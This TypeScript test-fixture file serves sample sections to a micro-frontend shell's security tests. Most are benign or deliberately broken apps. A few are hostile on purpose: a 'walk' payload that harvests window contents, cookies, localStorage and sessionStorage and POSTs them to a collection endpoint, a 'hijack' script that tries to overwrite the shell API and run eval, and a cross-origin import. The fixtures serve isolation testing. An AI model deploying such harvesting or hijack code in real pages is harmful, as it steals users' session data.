import type { Places, Reply } from "./sectionOrigin.ts";
import { tamperedFiles } from "./sectionOriginTampered.ts";

/** Counts in the page how often a section was called: `window.__calls["good-module mount"]`. */
const counted = (appName: string, call: string): string =>
  `(window.__calls ??= {})["${appName} ${call}"] = (window.__calls["${appName} ${call}"] ?? 0) + 1;`;

/** A line in the section's root, by which a test sees that it was mounted, and where. */
const placed = (appName: string): string => `
    const place = document.createElement("p");
    place.className = "place";
    place.textContent = "${appName} at " + context.path + " in " + context.lng;
    context.root.append(place);`;

/** An app whose views show their input; `inMount` is run as well. */
const app = (appName: string, inMount = "context.ready();"): string => `{
  mount(context) {
    ${counted(appName, "mount")}
    ${placed(appName)}
    ${inMount}
  },
  update(context) {
    ${counted(appName, "update")}
    context.root.querySelector(".place").textContent = "${appName} at " + context.path + " in " + context.lng;
  },
  unmount() { ${counted(appName, "unmount")} },
}`;

export const classicCode = (appName: string, inMount?: string): string =>
  `TouchlineShell.register("${appName}", ${app(appName, inMount)});`;
const moduleCode = (appName: string, inMount?: string): string =>
  `const app = ${app(appName, inMount)};\nexport const { mount, update, unmount } = app;`;

/** Sends everything that can be read from the page to this server, by any way that is open. */
export const walk = ({ origin }: Places): string => `
  const home = ${JSON.stringify(`${origin}/found`)};
  const seen = new Set();
  const texts = [];
  const look = (value, path, depth) => {
    try {
      if (typeof value === "string") texts.push(path + "=" + value.slice(0, 300));
      if ((typeof value !== "object" && typeof value !== "function") || value === null) return;
      if (seen.has(value) || depth > 5 || seen.size > 20000) return;
      seen.add(value);
      for (const key of Reflect.ownKeys(value)) {
        let part;
        try { part = value[key]; } catch { continue; }
        look(part, path + "." + String(key), depth + 1);
      }
    } catch {}
  };
  look(window, "window", 0);
  const root = document.getElementById("root");
  for (const key of root === null ? [] : Reflect.ownKeys(root)) texts.push("root key " + String(key));
  texts.push("cookie=" + document.cookie);
  for (const [name, area] of Object.entries({ localStorage, sessionStorage }))
    for (const key of Object.keys(area)) texts.push(name + "." + key + "=" + area.getItem(key));
  fetch(home, { method: "POST", mode: "no-cors", body: texts.join("\\n") }).catch(() => {});
`;

const script = (body: string): Reply => ({
  headers: { "Content-Type": "text/javascript; charset=utf-8" },
  body,
});
const style = (body: string): Reply => ({
  headers: { "Content-Type": "text/css; charset=utf-8" },
  body,
});

/** By name, under `/files/`. */
export const sectionFiles = (places: Places): Readonly<Record<string, Reply>> => ({
  "good-classic.js": script(classicCode("good-classic")),
  "good-module.mjs": script(moduleCode("good-module")),
  "good-default.mjs": script(`export default ${app("good-default")};`),
  "good-registering.mjs": script(classicCode("good-registering")),
  "good-order-1.js": script("window.__order = ['1'];"),
  "good-order-2.js": script("window.__order.push('2');"),
  "good-order-3.mjs": script("window.__order.push('3');"),
  "good-order.js": script(
    classicCode(
      "good-order",
      'context.root.append(" " + window.__order.join(",")); context.ready();',
    ),
  ),
  "good-data.mjs": script(
    moduleCode(
      "good-data",
      "context.root.append(' ' + JSON.stringify([window.__GOOD_DATA__, context.data])); context.ready();",
    ),
  ),
  "good-buttons.mjs": script(
    moduleCode(
      "good-buttons",
      `const does = {
        "Say ready": () => context.ready(),
        "Say error": () => context.error({ message: "on purpose" }),
        "Say 404": () => context.error({ message: "on purpose", status: 404 }),
        "Say 500": () => context.error({ message: "on purpose", status: 500 }),
        "Say dead": () => context.dead(),
        "Say error by event": () => window.dispatchEvent(new CustomEvent("touchline:section", {
          detail: { appName: "good-buttons", instanceId: context.instanceId, type: "error" } })),
        "Go live": () => context.bridge.send({ type: "nav/go", payload: { path: "/en/section/live" } }),
        "Throw": () => { throw new Error("thrown on purpose in a click"); },
      };
      for (const [name, run] of Object.entries(does)) {
        const button = document.createElement("button");
        button.textContent = name;
        button.addEventListener("click", run, { signal: context.signal });
        context.root.append(button);
      }
      context.ready();`,
    ),
  ),
  "good.css": style(".good { color: rgb(1, 2, 3); }"),

  "throws.js": script('throw new Error("thrown on purpose by a classic script");'),
  "throws.mjs": script('throw new Error("thrown on purpose by a module");'),
  "syntax.js": script("const = ;"),
  "syntax.mjs": script("export const = ;"),
  "importing.mjs": script(
    `import ${JSON.stringify(`${places.other}/files/evil.js`)}; export const mount = () => {};`,
  ),
  "nothing.js": script("window.__nothing = true;"),
  "other-name.js": script(classicCode("somebody-else")),
  "html.js": { headers: { "Content-Type": "text/html" }, body: "<!doctype html><p>no script</p>" },
  "html.css": { headers: { "Content-Type": "text/html" }, body: "<!doctype html><p>no style</p>" },
  "silent.js": "silence",
  "silent.css": "silence",
  "mount-throws.mjs": script("export const mount = () => { throw new Error('thrown by mount'); };"),
  "mount-rejects.mjs": script(
    "export const mount = async () => { throw new Error('rejected by mount'); };",
  ),
  "mount-lies.mjs": script(
    "export const mount = () => { throw { toString() { throw new Error('thrown by toString'); } }; };",
  ),
  "mount-silent.mjs": script(moduleCode("mount-silent", "")),
  "unmount-throws.mjs": script(
    `export const mount = (context) => { ${placed("unmount-throws")} context.ready(); };
    export const unmount = () => { throw new Error("thrown by unmount"); };`,
  ),
  "update-throws.mjs": script(
    `export const mount = (context) => { ${placed("update-throws")} context.ready(); };
    export const update = () => { throw new Error("thrown by update"); };`,
  ),
  "error.mjs": script("export const mount = ({ error }) => error({ message: 'on purpose' });"),
  "error-404.mjs": script(
    "export const mount = ({ error }) => error({ message: 'on purpose', status: 404 });",
  ),
  "error-500.mjs": script(
    "export const mount = ({ error }) => error({ message: 'on purpose', status: 500 });",
  ),
  "error-ready.mjs": script(
    "export const mount = ({ ready, error }) => { ready(); setTimeout(() => error({ message: 'on purpose' }), 200); };",
  ),
  "dead.mjs": script("export const mount = ({ dead }) => dead();"),
  "dead-ready.mjs": script(
    "export const mount = ({ ready, dead }) => { ready(); setTimeout(dead, 200); };",
  ),
  "walker.mjs": script(
    `export const mount = (context) => {
      ${placed("walker")}
      context.ready();
      setTimeout(() => { window.__context = context; ${walk(places)} }, 500);
    };`,
  ),
  "leaker.mjs": script(
    `export const mount = (context) => {
      ${placed("leaker")}
      const { root, signal, bridge } = context;
      const beat = () => { window.__beats = (window.__beats ?? 0) + 1; };
      root.addEventListener("click", beat);
      window.addEventListener("scroll", beat, { signal });
      bridge.watch("route", beat);
      bridge.on("coupon/changed", beat);
      for (let made = 0; made < 100; made++) root.append(document.createElement("div"));
      const timer = setInterval(beat, 1000);
      signal.addEventListener("abort", () => clearInterval(timer));
      context.ready();
    };`,
  ),
  "leaker-wild.mjs": script(
    `export const mount = (context) => {
      ${placed("leaker-wild")}
      window.__kept ??= [];
      window.__kept.push(context);
      setInterval(() => { context.bridge.send({ type: "nav/go", payload: { path: "/en/office/menu" } }); }, 200);
      setInterval(() => { context.error({ message: "from the grave" }); context.ready(); }, 200);
      context.bridge.watch("route", () => { window.__told = (window.__told ?? 0) + 1; });
      context.ready();
    };`,
  ),
  "hijack.js": script(
    `for (const spoil of [
      () => { window.TouchlineShell = { protocol: 1, register() { window.__evil = "shell replaced"; } }; },
      () => { window.TouchlineShell.register = () => { window.__evil = "register replaced"; }; },
      () => Object.defineProperty(window, "TouchlineShell", { value: null }),
      () => { delete window.TouchlineShell; },
      () => trustedTypes.createPolicy("touchline-sections", { createScript: (text) => text }),
      () => trustedTypes.createPolicy("evil", { createScript: (text) => text }),
      () => trustedTypes.createPolicy("default", { createScript: (text) => text }),
      () => eval("window.__evil = 'eval'"),
      () => new Function("window.__evil = 'Function'")(),
      () => setTimeout("window.__evil = 'setTimeout'"),
    ]) try { spoil(); } catch {}
    ${classicCode("hijack")}
    TouchlineShell.register("hijack", { mount() { window.__evil = "second registration"; } });
    TouchlineShell.register("__proto__", { mount() { window.__evil = "prototype"; } });`,
  ),
  ...tamperedFiles(places),
  "evil.js": script("window.__evil = 'a script from an origin that is not allowed';"),
  "evil.css": style("body { display: none !important; }"),
});
